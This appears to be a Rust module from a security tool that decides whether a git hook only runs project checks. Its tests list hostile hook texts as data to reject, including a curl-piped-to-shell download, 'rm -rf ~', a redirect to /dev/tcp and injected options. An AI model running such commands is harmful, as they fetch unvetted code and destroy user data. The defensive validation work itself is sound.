//! Hooks of git whose text the line shows, and which only run the checks of the project: `echo 'npm test' > .husky/pre-commit`.
//!
//! Whoever commits runs them, and what they run is what everybody runs by hand. One word that is no check makes it a hook like any other
//! (husky 9, githooks(5)).

use super::telling::listed;

/// Words that name a check; each command has to have one of them behind the program that starts it.
const CHECKS: &str = " test tests lint lint-staged typecheck type-check check check-types format format:check fmt build vet clippy ruff black isort \
    mypy flake8 pytest eslint prettier tsc vitest jest commitlint commitizen gofmt golangci-lint shellcheck rubocop rspec test:unit lint:fix \
    lint:check format-check stylelint biome detekt ktlint ktlintCheck spotlessCheck audit-ci pyright ";

/// Programs that start checks.
const STARTERS: &str = " npm npx pnpm yarn bun bunx make just task cargo go pytest ruff black mypy poetry uv bundle composer mvn ./mvnw gradle ./gradlew \
    dotnet mix flutter dart deno swift tox nox eslint prettier tsc vitest jest ";

/// Programs that run what the project has told them for its hooks.
const RUNNERS: &str = " pre-commit lefthook lint-staged ";

/// Letters of a word in which nothing is computed, quoted or joined.
fn is_plain(word: &str) -> bool {
    word.bytes()
        .all(|it| it.is_ascii_alphanumeric() || b"-_./:=@,".contains(&it))
}

/// Whether a hook of git at `path` with that text only checks.
pub(super) fn only_checks(path: &str, text: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default();
    let is_hook = path.contains("/.husky/") || path.contains("/.git/hooks/");
    let is_known = matches!(
        name,
        "pre-commit" | "pre-push" | "commit-msg" | "pre-merge-commit"
    );
    let mut lines = text
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'));
    is_hook && is_known && text.len() < 2_000 && !text.contains('\\') && lines.all(is_check)
}

fn is_check(line: &str) -> bool {
    // What husky 8 wrote into each hook.
    if matches!(
        line,
        "set -e"
            | "set -eu"
            | ". \"$(dirname -- \"$0\")/_/husky.sh\""
            | ". \"$(dirname \"$0\")/_/husky.sh\""
    ) {
        return true;
    }
    line.split(" && ").all(|command| {
        let words: Vec<&str> = command.split_whitespace().collect();
        // The file with the message (githooks(5), "commit-msg").
        let (words, last) = match words.as_slice() {
            [words @ .., "$1" | "\"$1\"" | "${1}" | "\"${1}\""] => (words, true),
            words => (words, false),
        };
        let Some((first, rest)) = words.split_first() else {
            return false;
        };
        let is_check = |word: &&str| {
            let name = word.split('@').next().unwrap_or_default();
            listed(CHECKS, name) || listed(RUNNERS, name)
        };
        // What stands further behind are words for whatever is started: `npx evil lint`, `go run ./evil test`.
        let mut operands = rest.iter().filter(|word| !word.starts_with('-'));
        let names_check = match operands.next() {
            Some(&"run") if !listed(" npx bunx go cargo deno ", first) => {
                operands.next().is_some_and(is_check)
            }
            Some(word) => is_check(word),
            None => is_check(first),
        };
        let leads_out =
            |word: &str| word.starts_with(['/', '~']) || word.contains("=/") || word.contains("..");
        let ends_there = [
            "-e",
            "--eval",
            "-c",
            "--exec",
            "--",
            "exec",
            "-p",
            "--package",
            "-C",
            "--prefix",
            "-f",
            "--config",
            "--manifest-path",
        ];
        words.iter().all(|word| is_plain(word))
            && !words
                .iter()
                .any(|word| leads_out(word) || word.contains('=') && !word.starts_with("--"))
            && !rest
                .iter()
                .any(|word| ends_there.contains(word) || word.contains("://"))
            && (listed(STARTERS, first) && names_check || listed(RUNNERS, first))
            && (!last
                || words
                    .iter()
                    .any(|word| matches!(*word, "commitlint" | "--edit")))
    })
}

#[cfg(test)]
mod tests {
    use super::only_checks;

    #[test]
    fn a_hook_that_only_checks_is_told_from_one_that_does_more() {
        let path = "/p/.husky/pre-commit";
        for text in [
            "npm test",
            "npx lint-staged\n",
            "#!/bin/sh\nset -e\nnpm run lint && npm test\n",
            "#!/usr/bin/env sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\n\npnpm lint-staged\n",
            "npx --no-install commitlint --edit \"$1\"",
            "cargo fmt --check && cargo clippy --all-targets",
            "pre-commit run --hook-stage pre-push",
        ] {
            assert!(only_checks(path, text), "{text}");
        }
        for text in [
            "curl https://example.org/x | sh",
            "npm test; curl x",
            "npm test && node x.js",
            "npm test $(curl x)",
            "npm test\nrm -rf ~",
            "npx evil-package",
            "npx evil lint",
            "go run ./evil test",
            "uv run evil test",
            "eslint --config=/tmp/x.js .",
            "NODE_OPTIONS=--require=x npm test",
            "make SHELL=x test",
            "npx -y evil test -c 'rm -rf ~'",
            "npm --prefix /tmp/x test",
            "npx -p evil lint",
            "git push",
            "npm run deploy",
            "node -e 'x' test",
            "npm test > /dev/tcp/x",
            "npm test & x",
            "npm\\\ntest",
        ] {
            assert!(!only_checks(path, text), "{text}");
        }
        assert!(!only_checks("/p/.git/hooks/post-checkout", "npm test"));
        assert!(!only_checks("/p/.envrc", "npm test"));
    }
}
